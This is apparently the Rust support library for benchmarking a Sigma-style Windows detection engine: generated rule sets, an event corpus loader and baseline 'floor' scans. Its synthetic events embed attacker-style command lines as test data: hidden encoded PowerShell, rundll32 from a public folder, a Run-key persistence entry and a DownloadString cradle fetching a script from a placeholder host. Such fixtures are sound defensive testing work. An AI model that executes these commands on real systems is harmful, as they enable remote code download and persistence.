//! # detect-benches
//!
//! Benchmark inputs for detect (see `BENCHMARKS.md` at the workspace root):
//!
//! * [`gen10`], [`gen100`], [`gen1000`] and (feature `large`, on by default)
//!   `gen5000`: rule sets of 10 to 5,000 rules shaped like SigmaHQ's Windows
//!   rules, written as `detect::rules!` source by `build.rs` from a fixed-seed
//!   generator (each set is a prefix of the next larger one);
//! * [`Corpus`]: the events the benchmarks scan, `windows-samples.ndjson` from
//!   `../shared/data` when it is there, else a small synthetic mix;
//! * [`floor_fields`], [`RoutedFields`] and [`floor_scan`]: the "floors",
//!   reading every byte of every field a rule set looks at (all of them, or
//!   those of the rules whose log source applies to the event) and nothing
//!   else.

#![forbid(unsafe_code)]

use std::path::PathBuf;
use std::time::{Duration, Instant};

use detect::interpreter::Interpreter;
use detect::ir::RuleSet;
use detect::{Event, JsonEvent, Layout, Value};

/// The first 10 generated rules.
pub mod gen10 {
    include!(concat!(env!("OUT_DIR"), "/gen_10.rs"));
}

/// The first 100 generated rules.
pub mod gen100 {
    include!(concat!(env!("OUT_DIR"), "/gen_100.rs"));
}

/// The first 1,000 generated rules.
pub mod gen1000 {
    include!(concat!(env!("OUT_DIR"), "/gen_1000.rs"));
}

/// All 5,000 generated rules (feature `large`).
#[cfg(feature = "large")]
pub mod gen5000 {
    include!(concat!(env!("OUT_DIR"), "/gen_5000.rs"));
}

pub use gen10::Gen10;
pub use gen100::Gen100;
pub use gen1000::Gen1000;
#[cfg(feature = "large")]
pub use gen5000::Gen5000;

/// `../shared/data/events/windows-samples.ndjson`, relative to the workspace root.
pub fn windows_samples_path() -> PathBuf {
    detect_test_support::workspace_root().join("../shared/data/events/windows-samples.ndjson")
}

/// Events to scan, each parsed into its own [`JsonEvent`], with the lines they
/// came from.
pub struct Corpus {
    /// Where the events come from (for messages and reports).
    pub source: String,
    /// Whether these are the real events (false: the synthetic fallback).
    pub real: bool,
    /// The lines, without line terminators, one per event.
    pub lines: Vec<String>,
    /// The parsed events, in line order.
    pub events: Vec<JsonEvent>,
}

impl Corpus {
    /// `windows-samples.ndjson` when present; otherwise prints why and
    /// returns [`Corpus::synthetic`]. The environment variable
    /// `DETECT_BENCH_EVENTS` names another NDJSON file instead (to profile
    /// one kind of event, say).
    pub fn load() -> Corpus {
        let path = std::env::var_os("DETECT_BENCH_EVENTS")
            .map(PathBuf::from)
            .unwrap_or_else(windows_samples_path);
        match std::fs::read_to_string(&path) {
            Ok(text) => Corpus::from_lines(
                path.display().to_string(),
                true,
                text.lines()
                    .filter(|l| !l.trim().is_empty())
                    .map(str::to_string),
            ),
            Err(e) => {
                eprintln!(
                    "detect-benches: {} not readable ({e}); using the built-in synthetic event mix \
                     instead (figures are not comparable with BENCHMARKS.md)",
                    path.display()
                );
                Corpus::synthetic()
            }
        }
    }

    /// A small synthetic mix of flat Windows events (process creations,
    /// network connections, failed logons, script blocks, installer events),
    /// 1,000 of them, for when the real data is absent.
    pub fn synthetic() -> Corpus {
        const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
        let images = [
            r"C:\\Windows\\System32\\cmd.exe",
            r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            r"C:\\Windows\\System32\\svchost.exe",
            r"C:\\Windows\\System32\\rundll32.exe",
            r"C:\\Windows\\System32\\reg.exe",
            r"C:\\Windows\\System32\\PING.EXE",
            r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        ];
        let clis = [
            r#"\"C:\\Windows\\system32\\cmd.exe\" /c \"whoami /priv\""#,
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            r"C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
            "rundll32.exe C:\\\\Users\\\\Public\\\\a.dll,DllRegisterServer",
            r"reg add HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d y /f",
            "ping  -n 1 -w 100 192.168.1.10",
            r#"\"chrome.exe\" --type=renderer --lang=en-US"#,
        ];
        let mut lines = Vec::new();
        for i in 0..1000usize {
            let k = i % images.len();
            let line = match i % 10 {
                0..=4 => format!(
                    r#"{{"Provider_Name": "Microsoft-Windows-Sysmon", "EventID": 1, "Channel": "{SYSMON}", "Computer": "WS{i:03}", "ProcessId": {pid}, "Image": "{img}", "CommandLine": "{cli}", "ParentImage": "C:\\Windows\\explorer.exe", "User": "CORP\\alice", "IntegrityLevel": "Medium"}}"#,
                    pid = 1000 + i,
                    img = images[k],
                    cli = clis[k],
                ),
                5 => format!(
                    r#"{{"Provider_Name": "Microsoft-Windows-Sysmon", "EventID": 3, "Channel": "{SYSMON}", "Image": "{img}", "Initiated": true, "DestinationIp": "{a}.{b}.0.{c}", "DestinationPort": {port}, "DestinationHostname": "host{i}.example.com"}}"#,
                    img = images[k],
                    a = if i % 20 == 5 { 10 } else { 93 },
                    b = i % 256,
                    c = i % 200,
                    port = [80, 443, 445, 4444][i % 4],
                ),
                6 | 7 => format!(
                    r#"{{"Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": 4625, "Channel": "Security", "TargetUserName": "user{i}", "LogonType": 3, "IpAddress": "203.0.113.{c}", "WorkstationName": "WS{i:03}"}}"#,
                    c = i % 250,
                ),
                8 => format!(
                    r#"{{"Provider_Name": "Microsoft-Windows-PowerShell", "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": "$c = New-Object Net.WebClient; $c.DownloadString('http://x{i}.example/a.ps1')", "Path": ""}}"#
                ),
                _ => format!(
                    r#"{{"Provider_Name": "MsiInstaller", "EventID": 1040, "Channel": "Application", "Data": ["C:\\Windows\\Installer\\{i}.msi", "2600"]}}"#
                ),
            };
            lines.push(line);
        }
        Corpus::from_lines("built-in synthetic mix".into(), false, lines.into_iter())
    }

    fn from_lines(source: String, real: bool, lines: impl Iterator<Item = String>) -> Corpus {
        let lines: Vec<String> = lines.collect();
        let events = lines
            .iter()
            .enumerate()
            .map(|(i, l)| {
                JsonEvent::parse_str(l).unwrap_or_else(|e| panic!("{source}:{}: {e}", i + 1))
            })
            .collect();
        Corpus {
            source,
            real,
            lines,
            events,
        }
    }

    /// The same events in a fixed pseudo-random order, parsed anew in that
    /// order: an interleaved stream, as a sensor receiving several log
    /// sources at once sees it (the file groups events by source file).
    pub fn shuffled(&self) -> Corpus {
        let mut lines = self.lines.clone();
        // A fixed seed: the same order on every run.
        let mut rng = detect_test_support::XorShift64(0x2545_F491_4F6C_DD1D);
        for i in (1..lines.len()).rev() {
            lines.swap(i, rng.below(i + 1));
        }
        Corpus::from_lines(
            format!("{} (shuffled)", self.source),
            self.real,
            lines.into_iter(),
        )
    }

    /// Every event forgets what lookups cached ([`JsonEvent::forget_lookups`]),
    /// as after its parse: done before each pass of the examples (see
    /// [`time_fresh_passes`]).
    pub fn forget_lookups(&self) {
        for event in &self.events {
            event.forget_lookups();
        }
    }

    /// Number of events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// True when there are no events.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Total bytes of the lines (without line terminators).
    pub fn bytes(&self) -> u64 {
        self.lines.iter().map(|l| l.len() as u64).sum()
    }

    /// Every `stride`-th event starting with the first, with the total bytes
    /// of their lines: a deterministic sample with the corpus' mix of log
    /// sources (the file interleaves them), for the slow interpreter.
    pub fn every(&self, stride: usize) -> (Vec<&JsonEvent>, u64) {
        let stride = stride.max(1);
        let events = self.events.iter().step_by(stride).collect();
        let bytes = self
            .lines
            .iter()
            .step_by(stride)
            .map(|l| l.len() as u64)
            .sum();
        (events, bytes)
    }
}

/// Times `iters` runs of `pass` (for criterion's `iter_custom`). Before
/// each run, outside the time, every event of `fresh` forgets what lookups
/// cached ([`JsonEvent::forget_lookups`]): events parsed beforehand would
/// otherwise keep, from one pass to the next, what no sensor's first scan
/// after a parse finds, and each pass costs what that first scan costs.
pub fn time_fresh_passes(
    iters: u64,
    fresh: &[&JsonEvent],
    mut pass: impl FnMut() -> u64,
) -> Duration {
    let mut spent = Duration::ZERO;
    for _ in 0..iters {
        for event in fresh {
            event.forget_lookups();
        }
        let start = Instant::now();
        std::hint::black_box(pass());
        spent += start.elapsed();
    }
    spent
}

/// The distinct event paths that the rules of `set` read, per layout (indexed
/// like [`Layout::ALL`]), in first-use order: each rule lowered for the layout
/// ([`detect::__internals::compile::lower::lower`], log source conditions included) and its fields
/// visited ([`detect::ir::Expr::visit_fields`]).
pub fn floor_fields(set: &RuleSet) -> [Vec<String>; 3] {
    Layout::ALL.map(|layout| {
        let mut fields: Vec<String> = Vec::new();
        for rule in &set.rules {
            let expr = detect::__internals::compile::lower::lower(rule, layout)
                .unwrap_or_else(|e| panic!("rule {}: {e}", rule.name));
            expr.visit_fields(&mut |f| {
                if !fields.iter().any(|g| g == f) {
                    fields.push(f.to_string());
                }
            });
        }
        fields
    })
}

/// The floor: looks up each of `fields` once in `event` and folds every byte
/// of every value's text into a checksum. Whatever a rule set does, it has to
/// find and read these fields at least once per event; the fold (a plain byte
/// sum, which the compiler vectorises) costs less than any matching would.
#[inline]
pub fn floor_scan<E: Event + ?Sized>(event: &E, fields: &[String]) -> u64 {
    let mut sum = 0u64;
    for field in fields {
        event.lookup(field, &mut |v: Value<'_>| {
            if let Some(s) = v.with_text(|t| t.bytes().fold(0u64, |a, b| a.wrapping_add(b as u64)))
            {
                sum = sum.rotate_left(7) ^ s;
            }
            false
        });
    }
    sum
}

/// The line floor: a sum of every byte of the event's NDJSON line. Any
/// engine reads the whole line at least once (a keyword rule applies to
/// every Windows event and reads every value); the sum (vectorised) costs
/// less than any search.
#[inline]
pub fn floor_line(event: &JsonEvent) -> u64 {
    event
        .raw()
        .bytes()
        .fold(0u64, |a, b| a.wrapping_add(u64::from(b)))
}

/// The routed floor's field lists: for each event, the fields read by the
/// rules whose log source applies to it (plus `Channel` and `EventID`, which
/// routing reads), as an index into `lists`. Computed once, outside timing.
pub struct RoutedFields {
    /// The distinct field lists.
    pub lists: Vec<Vec<String>>,
    /// For each event of the corpus, its list in `lists`.
    pub of_event: Vec<usize>,
}

impl RoutedFields {
    /// The routed field lists of `set` for every event of `events`.
    ///
    /// Which log sources apply to an event is decided by the reference
    /// interpreter on one stand-in rule per distinct log source, whose
    /// detection is always true.
    pub fn new(set: &RuleSet, events: &[JsonEvent]) -> RoutedFields {
        use detect::__internals::layout::map_field;
        use detect::ir::{Condition, Detection, Expr, Metadata, Rule, Selection};

        // Distinct log sources, and which one each rule has.
        let mut sources: Vec<Rule> = Vec::new();
        let mut source_of = Vec::with_capacity(set.rules.len());
        for rule in &set.rules {
            let k = sources
                .iter()
                .position(|s| s.logsource == rule.logsource && s.vocabulary == rule.vocabulary)
                .unwrap_or_else(|| {
                    sources.push(Rule {
                        name: format!("source_{}", sources.len()),
                        meta: Metadata::default(),
                        logsource: rule.logsource.clone(),
                        vocabulary: rule.vocabulary,
                        detection: Detection {
                            selections: vec![Selection {
                                name: "any".into(),
                                expr: Expr::And(vec![]),
                            }],
                            condition: Condition::Selection(0),
                        },
                    });
                    sources.len() - 1
                });
            source_of.push(k);
        }
        let applies = Interpreter::new(&RuleSet {
            rules: sources.clone(),
            ..RuleSet::default()
        })
        .expect("log sources of a compiled rule set load");

        // Per layout and log source, the fields its rules read.
        let fields: Vec<Vec<Vec<String>>> = Layout::ALL
            .iter()
            .map(|&layout| {
                let mut per_source = vec![Vec::<String>::new(); sources.len()];
                for (rule, &k) in set.rules.iter().zip(&source_of) {
                    let expr = detect::__internals::compile::lower::lower(rule, layout)
                        .unwrap_or_else(|e| panic!("rule {}: {e}", rule.name));
                    expr.visit_fields(&mut |f| {
                        if !per_source[k].iter().any(|g| g == f) {
                            per_source[k].push(f.to_string());
                        }
                    });
                }
                per_source
            })
            .collect();

        let mut lists: Vec<Vec<String>> = Vec::new();
        let mut keys: Vec<(usize, Vec<usize>)> = Vec::new();
        let mut of_event = Vec::with_capacity(events.len());
        for event in events {
            let layout = event.layout();
            let slot = Layout::ALL.iter().position(|l| *l == layout).unwrap_or(0);
            let key = (slot, applies.matches(event));
            let index = keys.iter().position(|k| *k == key).unwrap_or_else(|| {
                let mut list: Vec<String> = ["Channel", "EventID"]
                    .iter()
                    .map(|f| map_field(detect::ir::Vocabulary::Windows, layout, f))
                    .collect();
                for &k in &key.1 {
                    for f in &fields[slot][k] {
                        if !list.contains(f) {
                            list.push(f.clone());
                        }
                    }
                }
                lists.push(list);
                keys.push(key);
                lists.len() - 1
            });
            of_event.push(index);
        }
        RoutedFields { lists, of_event }
    }
}

/// [`floor_fields`] for the event's layout.
#[inline]
pub fn fields_for<'a, E: Event + ?Sized>(fields: &'a [Vec<String>; 3], event: &E) -> &'a [String] {
    let layout = event.layout();
    let slot = Layout::ALL.iter().position(|l| *l == layout).unwrap_or(0);
    &fields[slot]
}
